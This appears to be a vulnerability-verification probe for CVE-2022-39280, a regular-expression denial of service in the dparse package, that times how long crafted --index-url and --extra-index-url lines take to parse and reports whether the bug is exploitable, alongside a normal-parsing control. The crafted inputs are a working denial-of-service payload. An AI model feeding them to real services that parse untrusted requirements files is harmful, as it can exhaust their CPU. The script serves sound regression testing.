# /// vertice-probe
# id = "PYSEC-2022-301"
# aliases = ["CVE-2022-39280", "GHSA-8fg9-p83m-x5pq"]
# package = "dparse"
# summary = """\
#   The pattern for index addresses in requirements files backtracks over the host name, so a crafted --index-url \
#   line takes quadratic time."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-1333"]
# kind = "redos"
# symbols = ["dparse.parse", "dparse.parser.parse", "dparse.parser.RequirementsTXTParser"]
#
# [[affected]]
# package = "dparse"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.5.2" }] }]
#
# [cases]
# attack = "a long host name in --index-url takes quadratic time"
# [cases.variants]
# userinfo = "many colons in the user part of --extra-index-url"
# [cases.controls]
# requirements = "a requirements file with an index and pins is parsed"
#
# [test]
# vulnerable = "0.5.1"
# fixed = "0.5.2"
# with = ["setuptools<70"]
# python = "<3.12"
# ///
"""CVE-2022-39280: quadratic backtracking over index addresses."""

import json
import sys
import time


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def parse(text):
    import dparse

    found = dparse.parse(text, file_type="requirements.txt").dependencies
    if [dependency.name for dependency in found] != ["flask"]:
        raise RuntimeError("the pin after the address was lost: %r" % found)
    return found[0]


def attack():
    def work(size):
        parse("--index-url https://" + "a" * size + "_\nflask==1.0\n")
        return "the pin after it was parsed"

    return judge(work, 750, 6000, 22, "characters")


def userinfo():
    def work(size):
        parse("--extra-index-url https://" + "a:" * size + "_\nflask==1.0\n")
        return "the pin after it was parsed"

    return judge(work, 750, 6000, 22, "colons")


def requirements():
    pin = parse("--index-url https://index.example.org/simple\nflask>=1.0,<2\n")
    got = (pin.index_server, sorted(str(pin.specs).split(",")))
    good = got == ("https://index.example.org/simple/", ["<2", ">=1.0"])
    return ("works" if good else "broken"), repr(got)


CASES = {"attack": attack, "userinfo": userinfo, "requirements": requirements}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
